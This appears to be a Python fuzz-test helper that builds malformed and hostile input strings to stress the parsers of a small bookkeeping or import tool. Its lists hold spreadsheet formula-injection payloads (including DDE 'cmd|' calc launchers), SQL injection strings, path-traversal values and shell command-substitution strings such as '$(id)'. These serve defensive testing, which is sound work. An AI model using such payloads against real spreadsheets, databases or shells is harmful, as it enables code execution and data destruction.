"""Words made to hurt, drawn with a random source, so that a property and a long run share them.

A text is put together from pieces that the parsers know, from pieces made to break them, and from samples of
sound input that were changed a little: pure noise would be refused by the first check of each parser.
"""

from __future__ import annotations

from collections.abc import Sequence
from random import Random

FORMULAS = (
    '=HYPERLINK("http://x.invalid/?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '";=1+1;"',
    "=1+1",
)
"""Texts that a spreadsheet program would calculate, or start something by (CWE-1236)."""

STATEMENTS = (
    "'; DROP TABLE document; --",
    "\"; DELETE FROM item WHERE '1'='1",
    "x' OR 1=1 --",
    "Robert'); DROP TABLE party;--",
    "%_%",
    "a\\'b",
    "/* */",
    "?1 :name @name $name",
)
"""Texts that would change a database, were they ever put into a statement (CWE-89)."""

PATHS = (
    "../../up.txt",
    "..\\up.txt",
    "/no/such/root",
    "C:\\up.txt",
    "~/up.txt",
    "file:///etc/hostname",
    "a/../b",
)

NUMBERS = (
    "0", "1", "2", "12", "4.10", "-3", "+7", "0.001", "1e9", "1E400", "NaN", "inf", "-inf", "1,234.50",
    "1.234,50", "٣", "１２", "²", "1_000", "0x10", "9" * 39, "9" * 40, "9" * 41, "-" + "9" * 40, "0." + "0" * 36 + "1",
    "9" * 5000, "1/0", "1/3", "--1", "1.2.3", ".", "-", "999999999999", "1000000000000", "9223372036854775808",
    "$5", "5 €", "(12.00)", "12-", "5%", "101%", "12 000", "12'000",
)  # fmt: skip

DATES = (
    "2026-01-31", "31.1.26", "02/30/2026", "2026-13-01", "0000-00-00", "9999-12-31", "2026-02-29", "1/2/2026",
    "20260131", "Jan 5 2026", "32 March", "2026-W05-1", "1900-01-01", "2101-01-01", "2026-03", "2026-00", "٢٠٢٦-٠١-٠١",
)  # fmt: skip

ODD = (
    "", " ", "\0", "\n", "\r\n", "\t", "\x1b[2J\x1b[31m", "\x07", "\x85", "\x9b31m", "\u2028", "\u202eevil", "\u200b",
    "\ufeff", "\ufffe", "\xa0", "a\xa0b", "\u2003", "---  ---", "é", "ß", "İ", "ﬁ", "ſ", "K", "中文", "😀", "e\u0301" * 20, "a" * 61, "x" * 2000,
    '"', "'", '""', "{", "}", "{}", "{size}", "{0.__class__}", "%s", "%(a)s", "[", "]", "(", ")", "*", "**", "?", "\\",
    "|", ";", ",", ":", "#N/A", "#REF!", "Err:502", "-" * 50, "=" * 50, "$(id)", "`id`", "<b>", "&amp;", "]]>", "None",
)  # fmt: skip

KNOWN = (
    "freight", "duty", "by", "weight", "value", "on", "from", "ref", "min", "max", "USD", "EUR", "CNY", "JPY", "each",
    "case", "dozen", "mL", "kg", "g", "cm2", "in", "yd", "x", "roll", "sheet", "S", "M", "XL", "2XL", "S-XL", "XS; M-XXL",
    "adult", "youth", "cotton", "polyester", "60%", "100%", "TEE-SAND-M", "TEE-BLK-M", "TEE-*", "INK-CYAN", "FOB", "DDP",
    "CN", "US", "China", "supplier", "broker", "blank", "ink", "goods", "supplies", "customer's", "receive", "sell", "=",
    "claimed", "normal", "expense", "at", "for", "column", "sheet", "header", "row", "ignore", "type", "sale", "refund",
    "date", "order", "quantity", "unit", "price", "amount", "fees", "one", "per", "size", "colour", "style", "..",
    "Alder Yard Blanks", "Alder Yard Blanks/R-1", "receipt 1", "1.1", "12.3", "yes", "no", "resale", "none", "decimal",
    "comma", "point", "day month year", "month day year", "A", "B", "F", "AA", "ZZZ",
)  # fmt: skip

_SHELVES: tuple[Sequence[str], ...] = (
    KNOWN,
    KNOWN,
    KNOWN,
    NUMBERS,
    NUMBERS,
    DATES,
    ODD,
    ODD,
    FORMULAS,
    STATEMENTS,
    PATHS,
)
_JOINTS = (" ", " ", " ", "", "; ", ", ", "=", " = ", "-", "/", "..", "\n", "\t")


def piece(random: Random) -> str:
    """Return one piece."""
    return random.choice(random.choice(_SHELVES))


def text(random: Random, samples: Sequence[str] = ()) -> str:
    """Return pieces put together, or a sample that was changed in up to three places."""
    if samples and random.randrange(3):
        return changed(random, random.choice(samples))
    joint = random.choice(_JOINTS)
    return joint.join(piece(random) for _ in range(random.choice((1, 1, 2, 3, 4, 6))))


def changed(random: Random, sample: str) -> str:
    """Return a sample with pieces put in, parts cut out, doubled or moved."""
    for _ in range(random.choice((0, 1, 1, 2, 3))):
        start = random.randrange(len(sample) + 1)
        end = min(len(sample), start + random.choice((0, 0, 1, 2, 5, 12)))
        doing = random.randrange(5)
        if doing == 0:
            sample = sample[:start] + sample[end:]
        elif doing == 1:
            sample = sample[:end] + sample[start:end] * random.choice((1, 3)) + sample[end:]
        elif doing == 2:
            sample = (
                sample[:start]
                + chr(random.choice((0, 9, 10, 27, 34, 39, 44, 61, 127, 160, 233, 8238)))
                + sample[end:]
            )
        else:
            sample = sample[:start] + piece(random) + sample[end:]
    return sample[:20_000]


def column(random: Random, headings: Sequence[str]) -> str:
    """Return a heading: one that is known, or one that was changed."""
    return random.choice(headings) if random.randrange(8) else text(random, headings)
